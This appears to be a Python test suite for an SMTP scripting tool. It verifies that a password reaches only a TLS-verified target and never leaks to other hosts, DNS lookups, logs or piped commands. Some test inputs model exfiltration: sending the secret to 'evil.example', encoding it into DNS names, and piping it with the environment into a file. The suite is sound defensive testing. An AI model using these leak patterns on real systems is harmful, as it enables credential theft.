"""Where secrets may leave: each way a script has to say one, to each peer that must not have it, and to the one that may."""
import os
import shutil
import ssl
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import program
import tap
from mta import Mta, b64
from nameserver import NameServer
from test_secrets import forms
from test_way import Proxy

PASSWORD = "Sup3rS3cret!"
KEY = f"\0bob\0{PASSWORD}"
WRONG = [form.lower() for secret in (PASSWORD, KEY) for form in forms(secret.encode()) if len(form) >= 8]
TRANSACTION = "C: MAIL FROM:<a@example.test>\nS: 250\nC: RCPT TO:<b@example.test>\nS: 250\n"

# By what a script can say a secret, and where the peer hears it: in a line, or in a message.
WAYS = {
    "command": "C: NOOP {{password}}\nS: 250",
    "in base64": "C: NOOP {{b64 password}}\nS: 250",
    "octets of a line": "C\\: NOOP {{password}}\\r\\n\nS: 250",
    "variable": "/var copy={{password}}\nC: NOOP {{copy}}\nS: 250",
    "variable of a variable": "/var copy={{password}}\n/var other=x{{b64 copy}}\nC: NOOP {{other}}\nS: 250",
    "repeated": "C: NOOP {{repeat 2 password}}\nS: 250",
    "AUTH PLAIN": "C: AUTH PLAIN {{plain \"bob\" password}}\nS: 235",
    "AUTH LOGIN": "C: AUTH LOGIN\nS: 334\nC: {{login-user \"bob\"}}\nS: 334\nC: {{login-pass password}}\nS: 235",
    "AUTH XOAUTH2": "C: AUTH XOAUTH2 {{xoauth2 \"bob\" password}}\nS: 235",
    "pipelined": "C: NOOP\nC: NOOP {{password}}\nS: 250\nS: 250",
    "/raw": '/raw "NOOP {{password}}\\r\\n"',
    "/raw in base64": '/raw "NOOP {{b64 password}}\\r\\n"',
    "/raw in pieces": '/raw "NOOP "\n/raw "{{password}}\\r\\n"',
    "/pipeline": '/pipeline on\nC: NOOP\nC: NOOP {{password}}\nS: 250\nS: 250',
    "/helo": "/helo {{password}}\n/xclient NAME=x",
    "/xclient": "/xclient NAME={{password}}",
    "/xforward": "/xforward NAME={{password}}",
    "/auth": "/auth PLAIN user=bob password={{password}}",
    "/auth LOGIN": "/auth LOGIN user=bob password={{password}}",
    "envelope": "/send from={{password}}@example.test to=b@example.test",
    "subject": "/send from=a@example.test to=b@example.test subject={{password}}",
    "header": "/send from=a@example.test to=b@example.test header=\"X: {{password}}\"",
    "text": "/send from=a@example.test to=b@example.test body={{password}}",
    "message": TRANSACTION + "C: DATA\nS: 354\nC: {{password}}\nC: .\nS: 250",
    "/body": TRANSACTION + "/body <<E\n{{password}}\nE\nS: 250",
    "/bdat": TRANSACTION + "/bdat <<E\n{{password}}\nE\nS: 250",
}
# Words by which a script would loosen it.
WORDS = {
    "insecure": "/auth PLAIN user=bob password={{password}} insecure",
    "insecure with LOGIN": "/auth LOGIN user=bob password={{password}} insecure",
    "verify=off": "/tls verify=off\n/starttls\nC: NOOP {{password}}\nS: 250",
}


class Peer:
    """A server behind a proxy, so that it is not on this machine, and all that it hears."""

    def __init__(self, context=None):
        self.mta = Mta("AUTH PLAIN LOGIN XOAUTH2", "CHUNKING", "XCLIENT NAME", "XFORWARD NAME", "PIPELINING", context=context,
                       answers={"XCLIENT": "220 again", "XFORWARD": "250 ok", "AUTH": self.auth})

    @staticmethod
    def auth(client, line):
        """Takes whatever comes: it would like to have the password."""
        words = line.split()
        login = words[1].upper() == "LOGIN"
        for challenge in ["Username:", "Password:"] if login else [""] * (len(words) < 3):
            client.say("334 " + b64(challenge))
            client.line()
        return ["235 2.7.0 ok"]

    def __enter__(self):
        self.mta.__enter__()
        self.proxy = Proxy((self.mta.host, self.mta.port))
        self.proxy.__enter__()
        return self

    def __exit__(self, *exc):
        self.proxy.__exit__(*exc)
        self.mta.__exit__(*exc)

    @property
    def heard(self):
        return "\n".join(self.mta.heard) + b"\n".join(self.mta.messages).decode("latin-1") + str(self.proxy.asked)


class Confide(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.mkdtemp()
        cls.cert, key = os.path.join(cls.folder, "cert.pem"), os.path.join(cls.folder, "key.pem")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=x",
                        "-addext", "subjectAltName=DNS:mx.example", "-keyout", key, "-out", cls.cert], check=True, capture_output=True)
        cls.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        cls.context.load_cert_chain(cls.cert, key)
        with open(os.path.join(cls.folder, "pw"), "w", encoding="utf-8") as file:
            file.write(PASSWORD + "\n")

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.folder)

    def play(self, peer, script, *args, env=None, proxied=True):
        path = os.path.join(self.folder, "s.smtp")
        with open(path, "w", encoding="utf-8") as file:
            file.write("/secret password\n" + script + "\n")
        trace = os.path.join(self.folder, "trace")
        by = ("--proxy", f"socks5://{peer.proxy.at}") if proxied else ()
        done = program.run("replay", "-v", "--timeout=5", "--debug", trace, "--secret", f"password=@{self.folder}/pw", *by, *args, path, env=env)
        with open(trace, encoding="utf-8", errors="surrogateescape") as file:
            shown = file.read() + done.stdout + done.stderr
        os.remove(trace)
        self.has_none(shown)
        return done

    def has_none(self, text):
        for form in WRONG:
            at = text.lower().find(form)
            self.assertEqual(at, -1, text[max(0, at - 200):at + 60])

    def stays(self, script, *args, context=None, **more):
        with Peer(context) as peer:
            done = self.play(peer, script, *args, **more)
            self.assertNotEqual(done.returncode, 0, done.stdout)
            self.has_none(peer.heard)
        return done

    def test_in_the_clear(self):
        for name, way in {**WAYS, **WORDS}.items():
            with self.subTest(name):
                self.stays("C: EHLO x\nS: 250\n" + way, "--against", "mx.example")

    def test_to_another_host(self):
        for name, way in {**WAYS, **WORDS}.items():
            for against in (("--against", "mx.example"), ()):
                with self.subTest(name, against=against):
                    self.stays("/open evil.example\nC: EHLO x\nS: 250\n" + way, *against)
            with self.subTest(name, tls=True):
                self.stays("/open evil.example\nC: EHLO x\nS: 250\n/starttls\n" + way, "--against", "mx.example", "--ca", self.cert,
                           context=self.context)

    def test_to_a_server_that_the_command_line_does_not_verify(self):
        "the script's own CA, name and version count for nothing"
        for name, way in WAYS.items():
            with self.subTest(name):
                self.stays("C: EHLO x\nS: 250\n/starttls\n" + way, "--against", "mx.example", context=self.context)
        for words in ("ca=cert.pem", "ca=cert.pem verify=name", "sni=mx.example verify=name"):
            against = ("--against", "mx.example") if "ca" in words else ("--against", "other.example", "--ca", self.cert)
            with self.subTest(words):
                self.stays(f"/tls {words}\nC: EHLO x\nS: 250\n/starttls\nC: NOOP {{{{password}}}}\nS: 250", *against, context=self.context)

    def test_a_script_lowers_nothing(self):
        for words, asked in (("verify=off", "--verify=name"), ("ca=cert.pem", "--verify=name"), ("min=1.0", "--min-tls=1.2")):
            with self.subTest(words):
                done = self.stays(f"/tls {words}\nC: EHLO x\nS: 250\n/starttls\nC: NOOP\nS: 250", "--against", "mx.example", asked,
                                  context=self.context)
                self.assertEqual(done.returncode, 2)

    def test_to_the_target_over_tls_that_verifies(self):
        for name, way in WAYS.items():
            with self.subTest(name), Peer(self.context) as peer:
                done = self.play(peer, "C: EHLO x\nS: 250\n/starttls\n" + way, "--against", "mx.example", "--ca", self.cert)
                self.assertEqual(done.returncode, 0, done.stdout)
                heard = peer.heard.lower()
                self.assertTrue(any(form in heard for form in WRONG), peer.heard)

    def test_forced_by_the_command_line(self):
        for name in ("command", "/raw", "/auth", "/body"):
            with self.subTest(name), Peer() as peer:
                done = self.play(peer, "C: EHLO x\nS: 250\n" + WAYS[name], "--against", "mx.example", "--auth-insecure")
                self.assertEqual(done.returncode, 0, done.stdout)
            with self.subTest(name, hosts=True), Peer() as peer:
                done = self.play(peer, "/open other.example\nC: EHLO x\nS: 250\n" + WAYS[name], "--against", "mx.example",
                                 "--auth-insecure", "--allow-hosts")
                self.assertEqual(done.returncode, 0, done.stdout)
            with self.subTest(name, tls=True):
                self.stays("C: EHLO x\nS: 250\n" + WAYS[name], "--against", "mx.example", "--auth-insecure", "--tls")

    def test_to_this_machine_and_the_server_inside(self):
        with Peer() as peer:
            for against in (peer.mta.target, "demo:"):
                done = self.play(peer, "C: EHLO x\nS: 250\nC: NOOP {{password}}\nS: 250", "--against", against, proxied=False)
                self.assertEqual(done.returncode, 0, done.stdout)
            done = self.play(peer, "/open demo:\nC: EHLO x\nS: 250\nC: NOOP {{password}}\nS: 250", "--against", peer.mta.target, proxied=False)
            self.assertEqual(done.returncode, 0, done.stdout)

    def test_no_name_that_is_looked_up(self):
        with NameServer({}) as dns, Peer() as peer:
            for line in ("/open {{password}}.evil.example", "/open {{password}}", "/open {{b64 password}}.evil.example 25",
                         "/var x={{password}}\n/open {{x}}.evil.example", "/open @{{password}}.evil.example",
                         "/proxy-protocol v2 tlv=0xE0:{{password}}\n/open evil.example"):
                with self.subTest(line):
                    done = self.play(peer, line + "\nC: EHLO x\nS: 250", "--dns", dns.address, proxied=False)
                    self.assertNotEqual(done.returncode, 0)
            self.has_none(str(dns.asked))

    def test_no_command_gets_one(self):
        told = os.path.join(self.folder, "told")
        for line in (f"/open pipe:printf %s '{{{{password}}}}' >{told}; env >>{told}", f"/open pipe:env >{told}; cat >>{told}"):
            with self.subTest(line), Peer() as peer:
                self.play(peer, line + "\nC: EHLO {{password}}\nS: 250", "--allow-pipe", "--against", "mx.example", proxied=False,
                          env=program.environment(SMTPSH_SECRET_USER=PASSWORD))
                if os.path.exists(told):
                    with open(told, encoding="utf-8", errors="surrogateescape") as file:
                        self.has_none(file.read())

    def test_tls_that_was_asked_for_is_not_done_without(self):
        "whatever the server offers or answers, and though AUTH in the clear is allowed"
        options = ("--auth", "--auth-insecure", "--user", "bob", "--password-file", f"{self.folder}/pw")
        for offers, answers in (((), {}), (("STARTTLS",), {"STARTTLS": "454 4.7.0 not now"}), (("STARTTLS",), {"STARTTLS": "502 no"}),
                                (("STARTTLS",), {"STARTTLS": "250 ok"}), (("XXXXXXXA",), {})):
            with self.subTest(offers=offers, answers=answers), Mta("AUTH PLAIN LOGIN", *offers, answers=answers) as mta:
                for args in (("check_smtp", "-H", mta.host, "-p", str(mta.port), "-S", "-A", "LOGIN", "-U", "bob", "-P", PASSWORD),
                             ("check_smtp", "-H", mta.host, "-p", str(mta.port), "-S", "-A", "PLAIN", "-U", "bob", "-P", PASSWORD),
                             ("check_smtp", "-H", mta.host, "-p", str(mta.port), "-D", "5", "-A", "LOGIN", "-U", "bob", "-P", PASSWORD),
                             ("probe", "--tls=starttls", *options, mta.target), ("probe", *options, f"smtp+tls://{mta.target}"),
                             ("send", "--tls=starttls", *options, "--from", "a@b.example", "--to", "c@d.example", mta.target),
                             ("--tls", *options, mta.target, "-c", "NOOP"), (*options, f"smtp+tls://{mta.target}", "-c", "NOOP"),
                             ("--tls", *options, mta.target, "-c", "/auth LOGIN insecure")):
                    done = program.run(*args)
                    self.assertNotEqual(done.returncode, 0, done.stdout)
                    self.assertFalse([line for line in mta.heard if "AUTH" in line or b64(PASSWORD) in line], (args, mta.heard))

    def test_a_name_that_is_one_stands_in_no_message(self):
        with Peer() as peer, NameServer({}) as dns:
            self.play(peer, "C: EHLO x\nS: 250\n/helo {{password}}\n/send from=a@example.test to=b@example.test\n" + TRANSACTION +
                      "/body size=400\nS: 250", "--against", "mx.example", "--dns", dns.address)
            self.assertTrue(peer.mta.messages)
            self.has_none(peer.heard + str(dns.asked))

    def test_the_clients_certificate_goes_with_the_secrets(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.cert, os.path.join(self.folder, "key.pem"))
        context.load_verify_locations(self.cert)
        context.verify_mode = ssl.CERT_OPTIONAL
        context.maximum_version = ssl.TLSVersion.TLSv1_2
        own = ("--against", "mx.example", "--ca", self.cert, "--cert", self.cert, "--key", os.path.join(self.folder, "key.pem"))
        shown = []
        for host, more, sent in (("mx.example", (), True), ("evil.example", (), False), ("evil.example", ("--allow-hosts",), True)):
            with self.subTest(host, more=more), Peer(context) as peer:
                peer.mta.answers["NOOP"] = lambda client, line: shown.append(bool(client.sock.getpeercert(True))) or ["250 ok"]
                self.play(peer, f"/open {host}\nC: EHLO x\nS: 250\n/starttls\nC: NOOP\nS: 250", *own, *more)
                self.assertEqual(shown.pop(), sent)

    def test_captured_where_it_was_said(self):
        "a value from a peer that was told a secret goes only where the secret may"
        for capture in ("/capture x /what is NOOP (.*)/", "/capture x /(....)$/", None):
            with self.subTest(capture), Peer() as peer:
                peer.mta.answers["NOOP"] = lambda client, line: ["250 what is " + line]
                answer = "S: 250 what is NOOP {{x:rest}}" if capture is None else "S: 250\n" + capture
                done = self.play(peer, f"C: EHLO x\nS: 250\nC: NOOP {{{{password}}}}\n{answer}\n/close\n/open evil.example\n"
                                 "C: EHLO x\nS: 250\nC: VRFY {{x}}\nS: 250", "--against", "mx.example", "--auth-insecure")
                self.assertNotEqual(done.returncode, 0)
                self.assertFalse([line for line in peer.mta.heard if line.startswith("VRFY")])

    def test_a_guess_is_not_told_from_another(self):
        "neither by what is starred nor by what a script compares"
        for guess in (PASSWORD, "Sup3rS3cres!"):
            for line in ("S: 250 [..]" + guess + "[..]", "S: 250\n/capture x /is (.*)$/\n/assert var x == NOOP " + guess,
                         "S: 250\n/assert reply.text contains " + guess):
                with self.subTest(line), Peer() as peer:
                    peer.mta.answers["NOOP"] = lambda client, line: ["250 what is " + line]
                    done = self.play_shown(peer, f"C: EHLO x\nS: 250\nC: NOOP {guess}\n{line}", "--against", "mx.example")
                    self.assertEqual(done.returncode, 0, done.stdout)
        for line in ("/assert var password matches /^S/", "/if var password contains S\nC: NOOP a\nS: 250\n/end",
                     "/var x={{password}}\n/assert var x contains S", "/assert reply.text contains {{password}}"):
            with self.subTest(line), Peer(self.context) as peer:
                done = self.play(peer, "C: EHLO x\nS: 250\n/starttls\n" + line, "--against", "mx.example", "--ca", self.cert)
                self.assertEqual(done.returncode, 2, done.stdout)
        with Peer() as peer:
            peer.mta.answers["NOOP"] = "250 " + PASSWORD
            done = self.play(peer, "C: EHLO x\nS: 250\nC: NOOP\nS: 250 [..]{{password}}[..]", "--against", "mx.example")
            self.assertEqual(done.returncode, 5, done.stdout)

    def play_shown(self, peer, script, *args):
        """A script that has the guess in its text, which is then what it shows."""
        path = os.path.join(self.folder, "s.smtp")
        with open(path, "w", encoding="utf-8") as file:
            file.write("/secret password\n" + script + "\n")
        return program.run("replay", "--secret", f"password=@{self.folder}/pw", "--proxy", f"socks5://{peer.proxy.at}", *args, path)


if __name__ == "__main__":
    tap.main()
